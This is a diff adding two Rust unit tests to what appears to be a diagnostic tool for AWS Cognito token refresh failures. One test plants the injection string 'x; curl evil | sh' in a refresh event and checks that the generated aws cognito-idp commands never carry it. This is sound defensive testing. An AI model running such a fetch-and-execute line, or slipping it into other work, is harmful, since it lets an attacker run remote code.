@@ -561,3 +561,24 @@ fn nothing_secret_or_personal_is_told_or_kept() {
         assert!(!told.contains(kept), "{kept}");
     }
 }
+
+#[test]
+fn what_a_caller_chose_is_in_no_command() {
+    let given = Given::events(vec![invalid(refresh(3_601, "x; curl evil | sh"))]);
+    let evidence = given.evidence();
+    let history = History::of(&evidence.events);
+    let diagnosis = diagnose(&evidence, &history, Moment::now());
+    let unknown = diagnosis.troubles[0].causes.iter().flat_map(|ranked| &ranked.signs.unknown);
+    let commands: Vec<&String> = unknown.filter(|text| text.contains("aws cognito-idp")).collect();
+    assert!(!commands.is_empty() && commands.iter().all(|text| !text.contains("evil")), "{commands:?}");
+}
+
+#[test]
+fn changes_of_another_pool_say_nothing() {
+    let other = event(60, "UpdateUserPool", json!({ "userPoolId": "eu-west-1_Zz9Yy8Xx7", "deviceConfiguration": {} }));
+    let given = Given {
+        tokens: vec![access_token(|_| ())],
+        ..Given::events(vec![sign_in(WEB), other, invalid(refresh(3_601, WEB))])
+    };
+    assert_eq!(given.verdict("tracking-switched-on"), Verdict::Possible);
+}
